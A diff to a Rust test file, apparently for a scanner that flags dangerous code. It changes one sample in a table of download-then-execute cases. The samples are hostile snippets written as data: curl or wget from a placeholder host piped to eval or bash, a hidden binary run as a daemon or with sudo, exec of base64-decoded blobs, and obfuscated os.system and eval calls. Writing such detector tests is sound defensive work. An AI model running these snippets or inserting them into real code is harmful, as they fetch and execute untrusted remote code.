@@ -346,7 +346,7 @@ fn cases() -> Vec<(&'static str, Vec<String>, Vec<String>)> {
             t(&["getattr(os, 'sys' + 'tem')(cmd)", "getattr(__builtins__, 'ev' + 'al')(src)", "__import__('o' + 's').system('id')", "getattr(subprocess, 'check_output')(c)", "globals()['__builtins__']"]),
             t(&["flag = getattr(os, 'O_BINARY', 0)", "handler = getattr(self, name)", "import importlib; importlib.import_module(name)"])),
         ("flow.download-exec",
-            t(&["payload=$(curl -fsSL https://x.invalid/p)\neval \"$payload\"", "code = requests.get(url).text\nexec(code)", "curl -s -o /tmp/i.sh https://x.invalid/i\nbash /tmp/i.sh", "const src = await fetch(u).then(r => r.text());\neval(src);", "curl -s https://x.invalid/a -o /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a --daemon &", "wget -q -O ./agent https://x.invalid/a && chmod +x ./agent && sudo ./agent"]),
+            t(&["payload=$(curl -fsSL https://x.invalid/p)\neval \"$payload\"", "code = requests.get(url).text\nexec(code)", "curl -s -o /tmp/i.sh https://x.invalid/i\nbash /tmp/i.sh", "const src = await fetch(u).then(r => r.text());\neval(src);", "curl -s https://x.invalid/a -o /tmp/.a\nchmod +x /tmp/.a\n/tmp/.a --daemon &", "wget -q -O ./agent https://x.invalid/a\nchmod +x ./agent && sudo ./agent"]),
             t(&["data = requests.get(url).json()\nprint(data['name'])", "curl -s https://x.invalid/a -o /tmp/.a\nls -l /tmp/.a", "VERSION=$(curl -s https://x.invalid/v)\necho \"$VERSION\"", "resp = requests.get(url)\nresult = df.eval(expr)"])),
         ("flow.decode-exec",
             t(&["blob = base64.b64decode(s)\nexec(blob)", "X=$(echo \"$P\" | base64 -d)\neval \"$X\""]),
